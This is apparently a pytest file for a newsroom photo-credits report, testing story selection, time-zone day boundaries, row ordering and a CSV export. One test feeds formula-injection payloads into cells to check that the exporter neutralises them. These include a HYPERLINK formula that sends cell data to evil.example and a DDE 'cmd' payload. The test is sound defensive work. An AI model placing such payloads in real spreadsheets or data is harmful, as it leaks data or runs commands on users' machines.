"""services.credits: the photo credits report for chosen stories and/or a date range (days
counted in a given time zone), and its CSV, which a spreadsheet can never run as formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import time
from collections.abc import Iterator
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import update

from editordesk.model import ImageFields, ImageRecord, StoryDraft, StoryStatus
from editordesk.services.credits import (
    CSV_HEADER,
    CreditRow,
    credits_csv_text,
    credits_report,
    write_credits_csv,
)
from editordesk.services.images import add_image, update_image
from editordesk.services.stories import create_story, get_story, save_story
from editordesk.store.db import Store
from editordesk.store.models import Story
from tests.helpers import image_bytes

AUTHOR = "Test Editor"
AUCKLAND = ZoneInfo("Pacific/Auckland")  # UTC+13 in November: its days are not UTC's days
UTC = dt.UTC


def local(
    day: int, hour: int = 12, minute: int = 0, second: int = 0, month: int = 11
) -> dt.datetime:
    return dt.datetime(2026, month, day, hour, minute, second, tzinfo=AUCKLAND)


def add(store: Store, name: str, shade: int, **fields: str) -> ImageRecord:
    with store.write() as session:
        return add_image(
            session,
            store.media,
            image_bytes("PNG", color=(shade, 120, 60)),
            name,
            ImageFields(**fields),
        )


def figures(*images: ImageRecord) -> str:
    return "\n\n".join(f'{{{{< figure image="{i.id}" >}}}}' for i in images)


def story(
    store: Store,
    headline: str,
    *images: ImageRecord,
    published: dt.datetime | None = None,
    saved: dt.datetime | None = None,
) -> int:
    """A story showing `images`, published at `published` (or not at all), last saved at
    `saved` (set in the store directly: the clock of the test run is not the story's)."""
    draft = StoryDraft(
        headline=headline,
        body=f"Words.\n\n{figures(*images)}",
        publish_time=published,
        status=StoryStatus.PUBLISHED if published else StoryStatus.EDITING,
    )
    with store.write() as session:
        story_id = create_story(session, draft, author=AUTHOR).id
        if saved is not None:
            session.execute(update(Story).where(Story.id == story_id).values(updated=saved))
    return story_id


# ------------------------------------------------------------------ chosen stories


def test_rows_for_the_chosen_stories(store: Store) -> None:
    wall = add(
        store,
        "wall.jpg",
        1,
        credit="Photo: Ann Lee / Harbour Press",
        creator="Ann Lee",
        source="Harbour Press",
        copyright="© 2026 Harbour Press",
        licence="All rights reserved",
    )
    quay = add(store, "quay.jpg", 2, credit="Coast Agency", licence="CC BY 4.0")
    ferry = add(store, "ferry.jpg", 3, credit="Ferry Co.")
    first = story(store, "Harbour wall gives way", wall, quay, published=local(10, 9))
    second = story(store, "Ferry moves", ferry, wall, published=local(11, 9))
    story(store, "Not chosen", ferry, published=local(10, 8))
    story(store, "No pictures", published=local(10, 8))
    with store.read() as session:
        rows = credits_report(session, story_ids=[second, first, first], tz=AUCKLAND)
    assert [(r.story_id, r.image_id) for r in rows] == [
        (first, wall.id),
        (first, quay.id),
        (second, wall.id),
        (second, ferry.id),
    ]
    assert rows[0] == CreditRow(
        story_id=first,
        headline="Harbour wall gives way",
        date=dt.date(2026, 11, 10),
        published=True,
        image_id=wall.id,
        file_name="wall.jpg",
        credit="Photo: Ann Lee / Harbour Press",
        creator="Ann Lee",
        source="Harbour Press",
        copyright="© 2026 Harbour Press",
        licence="All rights reserved",
    )
    assert rows[1].licence == "CC BY 4.0" and rows[3].credit == "Ferry Co."


def test_no_stories_chosen_gives_no_rows_and_none_means_every_story(store: Store) -> None:
    wall = add(store, "wall.jpg", 1, credit="A")
    story(store, "One", wall, published=local(10))
    story(store, "Two", wall, published=local(11))
    with store.read() as session:
        assert credits_report(session, story_ids=[]) == []
        assert credits_report(session, story_ids=[987_654]) == []
        assert len(credits_report(session)) == 2
        assert len(credits_report(session, story_ids=None)) == 2


def test_many_chosen_stories_are_asked_for_in_chunks(store: Store) -> None:
    wall = add(store, "wall.jpg", 1, credit="A")
    ids = [story(store, f"Story {n}", wall, published=local(10, n)) for n in range(3)]
    asked = [*range(50_000, 51_100), *ids]  # more than one IN (…) of 500
    with store.read() as session:
        rows = credits_report(session, story_ids=asked, tz=AUCKLAND)
    assert [r.story_id for r in rows] == ids


def test_a_changed_credit_shows_in_the_next_report(store: Store) -> None:
    wall = add(store, "wall.jpg", 1, credit="Old credit")
    story_id = story(store, "Wall", wall, published=local(10))
    with store.write() as session:
        update_image(session, wall.id, ImageFields(credit="New credit", creator="Ann Lee"))
    with store.read() as session:
        (row,) = credits_report(session, story_ids=[story_id])
    assert (row.credit, row.creator) == ("New credit", "Ann Lee")


def test_a_picture_taken_out_of_a_story_leaves_its_report(store: Store) -> None:
    wall = add(store, "wall.jpg", 1, credit="A")
    quay = add(store, "quay.jpg", 2, credit="B")
    story_id = story(store, "Wall", wall, quay, published=local(10))
    with store.write() as session:
        version = get_story(session, story_id).version
        save_story(
            session,
            story_id,
            StoryDraft(headline="Wall", body=figures(quay), publish_time=local(10)),
            base_version=version,
            author=AUTHOR,
        )
    with store.read() as session:
        assert [r.image_id for r in credits_report(session, story_ids=[story_id])] == [quay.id]


# ------------------------------------------------------------------ date range


@pytest.fixture
def november(store: Store) -> dict[str, int]:
    """Stories around 10–12 November in Auckland, each showing one picture."""
    picture = add(store, "wall.jpg", 1, credit="Photo: Desk")
    return {
        "before": story(store, "Before", picture, published=local(9, 23, 59, 59)),
        "first_moment": story(store, "First moment", picture, published=local(10, 0, 0, 0)),
        "middle": story(store, "Middle", picture, published=local(11, 12)),
        "last_moment": story(store, "Last moment", picture, published=local(12, 23, 59, 59)),
        "after": story(store, "After", picture, published=local(13, 0, 0, 0)),
        "draft_saved_inside": story(store, "Draft", picture, saved=local(11, 8)),
        "draft_saved_before": story(store, "Old draft", picture, saved=local(1, 8, month=10)),
        # Published long ago, only corrected this week: it counts by its publish time.
        "old_but_resaved": story(
            store, "Old", picture, published=local(1, 8, month=10), saved=local(11, 9)
        ),
    }


def story_keys(rows: list[CreditRow], stories: dict[str, int]) -> list[str]:
    names = {story_id: key for key, story_id in stories.items()}
    return [names[r.story_id] for r in rows]


def test_date_range_includes_both_whole_days_in_the_given_zone(
    store: Store, november: dict[str, int]
) -> None:
    with store.read() as session:
        rows = credits_report(
            session, start=dt.date(2026, 11, 10), end=dt.date(2026, 11, 12), tz=AUCKLAND
        )
    assert story_keys(rows, november) == [  # by day, then by story
        "first_moment",
        "middle",
        "draft_saved_inside",
        "last_moment",
    ]
    dates = {key: r.date for key, r in zip(story_keys(rows, november), rows, strict=True)}
    assert dates == {
        "first_moment": dt.date(2026, 11, 10),  # 9 November in UTC
        "draft_saved_inside": dt.date(2026, 11, 11),
        "middle": dt.date(2026, 11, 11),
        "last_moment": dt.date(2026, 11, 12),
    }


def test_the_same_dates_in_another_zone_are_other_moments(
    store: Store, november: dict[str, int]
) -> None:
    with store.read() as session:
        rows = credits_report(
            session, start=dt.date(2026, 11, 10), end=dt.date(2026, 11, 12), tz=UTC
        )
    # Auckland's 10 Nov 00:00 is 9 Nov in UTC; its 13 Nov 00:00 is 12 Nov 11:00 UTC.
    assert story_keys(rows, november) == ["middle", "draft_saved_inside", "last_moment", "after"]
    assert [r.date for r in rows] == [
        dt.date(2026, 11, 10),
        dt.date(2026, 11, 10),
        dt.date(2026, 11, 12),
        dt.date(2026, 11, 12),
    ]


def test_a_single_day_and_open_ended_ranges(store: Store, november: dict[str, int]) -> None:
    day = dt.date(2026, 11, 12)
    with store.read() as session:
        one_day = credits_report(session, start=day, end=day, tz=AUCKLAND)
        from_day = credits_report(session, start=day, tz=AUCKLAND)
        until_day = credits_report(session, end=dt.date(2026, 11, 9), tz=AUCKLAND)
    assert story_keys(one_day, november) == ["last_moment"]
    assert story_keys(from_day, november) == ["last_moment", "after"]
    assert story_keys(until_day, november) == ["draft_saved_before", "old_but_resaved", "before"]


def test_a_range_given_backwards_is_turned_round(store: Store, november: dict[str, int]) -> None:
    with store.read() as session:
        forwards = credits_report(
            session, start=dt.date(2026, 11, 10), end=dt.date(2026, 11, 12), tz=AUCKLAND
        )
        backwards = credits_report(
            session, start=dt.date(2026, 11, 12), end=dt.date(2026, 11, 10), tz=AUCKLAND
        )
    assert backwards == forwards


def test_a_story_without_a_publish_time_counts_by_its_last_save(
    store: Store, november: dict[str, int]
) -> None:
    with store.read() as session:
        rows = credits_report(
            session, start=dt.date(2026, 11, 11), end=dt.date(2026, 11, 11), tz=AUCKLAND
        )
    by_key = dict(zip(story_keys(rows, november), rows, strict=True))
    assert set(by_key) == {"middle", "draft_saved_inside"}  # not the re-saved old story
    draft = by_key["draft_saved_inside"]
    assert draft.published is False and draft.date == dt.date(2026, 11, 11)
    assert by_key["middle"].published is True


def test_a_fresh_draft_counts_on_the_day_it_was_saved(store: Store) -> None:
    wall = add(store, "wall.jpg", 1, credit="A")
    story_id = story(store, "Just written", wall)
    today = dt.datetime.now(AUCKLAND).date()
    with store.read() as session:
        rows = credits_report(session, start=today, end=today, tz=AUCKLAND)
    assert [(r.story_id, r.published, r.date) for r in rows] == [(story_id, False, today)]


def test_stories_and_dates_together_give_chosen_stories_within_the_dates(
    store: Store, november: dict[str, int]
) -> None:
    chosen = [november["before"], november["middle"], november["after"]]
    with store.read() as session:
        rows = credits_report(
            session,
            story_ids=chosen,
            start=dt.date(2026, 11, 10),
            end=dt.date(2026, 11, 12),
            tz=AUCKLAND,
        )
    assert story_keys(rows, november) == ["middle"]


@pytest.fixture
def auckland_computer() -> Iterator[None]:
    """The computer's own zone set to Auckland for the test (TZ and tzset)."""
    if not hasattr(time, "tzset"):
        pytest.skip("the process time zone cannot be changed on this platform")
    saved = os.environ.get("TZ")
    os.environ["TZ"] = "Pacific/Auckland"
    time.tzset()
    try:
        yield
    finally:
        if saved is None:
            os.environ.pop("TZ", None)
        else:
            os.environ["TZ"] = saved
        time.tzset()


def test_without_a_zone_the_computers_own_is_used(
    store: Store, november: dict[str, int], auckland_computer: None
) -> None:
    with store.read() as session:
        implicit = credits_report(session, start=dt.date(2026, 11, 10), end=dt.date(2026, 11, 12))
        explicit = credits_report(
            session, start=dt.date(2026, 11, 10), end=dt.date(2026, 11, 12), tz=AUCKLAND
        )
    assert implicit == explicit
    assert story_keys(implicit, november)[0] == "first_moment"


def test_days_are_whole_across_a_daylight_saving_change(store: Store) -> None:
    # New Zealand's clocks went forward at 02:00 on 27 September 2026 (a 23-hour day).
    wall = add(store, "wall.jpg", 1, credit="A")
    early = story(store, "Early", wall, published=dt.datetime(2026, 9, 27, 0, 30, tzinfo=AUCKLAND))
    late = story(store, "Late", wall, published=dt.datetime(2026, 9, 27, 23, 30, tzinfo=AUCKLAND))
    story(store, "Next day", wall, published=dt.datetime(2026, 9, 28, 0, 0, tzinfo=AUCKLAND))
    day = dt.date(2026, 9, 27)
    with store.read() as session:
        rows = credits_report(session, start=day, end=day, tz=AUCKLAND)
    assert [(r.story_id, r.date) for r in rows] == [(early, day), (late, day)]


def test_rows_are_oldest_first_then_by_story_then_picture(store: Store) -> None:
    b_pic = add(store, "b.jpg", 2, credit="B")
    a_pic = add(store, "a.jpg", 1, credit="A")
    later = story(store, "Later", a_pic, published=local(12))
    earlier = story(store, "Earlier", b_pic, a_pic, published=local(10))
    same_day = story(store, "Same day", a_pic, published=local(10, 8))
    with store.read() as session:
        rows = credits_report(session, tz=AUCKLAND)
    assert [(r.story_id, r.image_id) for r in rows] == [
        (earlier, b_pic.id),
        (earlier, a_pic.id),
        (same_day, a_pic.id),
        (later, a_pic.id),
    ]


# ------------------------------------------------------------------ CSV


def row(**changes: object) -> CreditRow:
    values: dict[str, object] = {
        "story_id": 7,
        "headline": "Harbour wall gives way",
        "date": dt.date(2026, 11, 10),
        "published": True,
        "image_id": 3,
        "file_name": "wall.jpg",
        "credit": "Photo: Ann Lee",
        "creator": "Ann Lee",
        "source": "Harbour Press",
        "copyright": "© Harbour Press",
        "licence": "CC BY 4.0",
    }
    values.update(changes)
    return CreditRow(**values)  # type: ignore[arg-type]


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_the_csv_has_a_header_and_one_row_per_picture_per_story(
    store: Store, tmp_path: Path
) -> None:
    wall = add(
        store,
        "wall.jpg",
        1,
        credit="Foto: Jürgen Weiß, dpa",
        creator='Jürgen "Jo" Weiß',
        copyright="© dpa",
        licence="Editorial use only",
    )
    quay = add(store, "quay.jpg", 2, credit="Coast Agency")
    published = story(store, "Hafen: Ärger über die Mauer", wall, quay, published=local(10, 9))
    draft = story(store, "Draft, unpublished", wall, saved=local(11, 7))
    with store.read() as session:
        rows = credits_report(session, tz=AUCKLAND)
    path = tmp_path / "reports" / "credits.csv"
    path.parent.mkdir()
    write_credits_csv(rows, path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel needs the BOM for accents
    table = read_csv(path)
    assert table[0] == list(CSV_HEADER)
    assert table[0] == [
        "Story ID",
        "Headline",
        "Date",
        "Published",
        "Image ID",
        "File",
        "Credit",
        "Creator",
        "Source",
        "Copyright",
        "Licence",
    ]
    assert table[1:] == [
        [
            str(published),
            "Hafen: Ärger über die Mauer",
            "2026-11-10",
            "yes",
            str(wall.id),
            "wall.jpg",
            "Foto: Jürgen Weiß, dpa",
            'Jürgen "Jo" Weiß',
            "",
            "© dpa",
            "Editorial use only",
        ],
        [
            str(published),
            "Hafen: Ärger über die Mauer",
            "2026-11-10",
            "yes",
            str(quay.id),
            "quay.jpg",
            "Coast Agency",
            "",
            "",
            "",
            "",
        ],
        [
            str(draft),
            "Draft, unpublished",
            "2026-11-11",
            "no",
            str(wall.id),
            "wall.jpg",
            "Foto: Jürgen Weiß, dpa",
            'Jürgen "Jo" Weiß',
            "",
            "© dpa",
            "Editorial use only",
        ],
    ]


def test_an_empty_report_is_just_the_header(tmp_path: Path) -> None:
    path = tmp_path / "empty.csv"
    write_credits_csv([], path)
    assert read_csv(path) == [list(CSV_HEADER)]


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_would_be_a_formula_gets_an_apostrophe(tmp_path: Path, hostile: str) -> None:
    rows = [
        row(credit=hostile),
        row(headline=hostile, creator=hostile, source=hostile, copyright=hostile, licence=hostile),
        row(file_name=hostile),
    ]
    path = tmp_path / "credits.csv"
    write_credits_csv(rows, path)
    table = read_csv(path)
    assert table[1][6] == "'" + hostile
    assert table[2][1] == table[2][7] == table[2][8] == table[2][9] == table[2][10] == "'" + hostile
    assert table[3][5] == "'" + hostile
    for line in table[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line)


@pytest.mark.parametrize("harmless", ["Photo: A = B", "Ann-Lee", "a@b.example", "'quoted'", ""])
def test_harmless_cells_are_left_alone(tmp_path: Path, harmless: str) -> None:
    path = tmp_path / "credits.csv"
    write_credits_csv([row(credit=harmless)], path)
    assert read_csv(path)[1][6] == harmless


def test_csv_text_matches_the_file_and_the_row_cells() -> None:
    rows = [row(), row(story_id=8, published=False, credit='Line one\nline two, "quoted"')]
    text = credits_csv_text(rows)
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == list(CSV_HEADER)
    assert parsed[1] == list(rows[0].cells())
    assert parsed[2][3] == "no"
    assert parsed[2][6] == 'Line one\nline two, "quoted"'


def test_a_failed_write_leaves_no_half_file(tmp_path: Path) -> None:
    target = tmp_path / "credits.csv"
    target.write_text("previous report", encoding="utf-8")

    class Exploding:
        def __iter__(self) -> Iterator[CreditRow]:
            yield row()
            raise RuntimeError("disk full")

    with pytest.raises(RuntimeError, match="disk full"):
        write_credits_csv(Exploding(), target)  # type: ignore[arg-type]
    assert target.read_text(encoding="utf-8") == "previous report"
    assert [p.name for p in tmp_path.iterdir()] == ["credits.csv"]
